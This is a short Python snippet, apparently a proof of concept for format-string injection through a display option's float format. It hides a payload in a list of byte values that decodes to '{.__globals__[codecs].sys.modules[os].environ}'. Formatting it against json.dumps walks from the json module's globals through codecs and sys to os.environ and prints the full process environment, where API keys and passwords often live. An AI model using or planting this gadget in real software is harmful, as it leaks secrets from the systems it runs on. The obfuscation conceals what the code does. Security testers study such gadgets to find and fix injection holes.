# reaches: a display option's float format is a bound computed format
import json
fmt = bytes([123, 46] + [95] * 2 + list(b"globals") + [95] * 2 + list(b"[codecs].sys.modules[os].environ}")).decode()
print("{}".join(["", ""]) + str.format(fmt.replace("{.", "{0."), json.dumps))
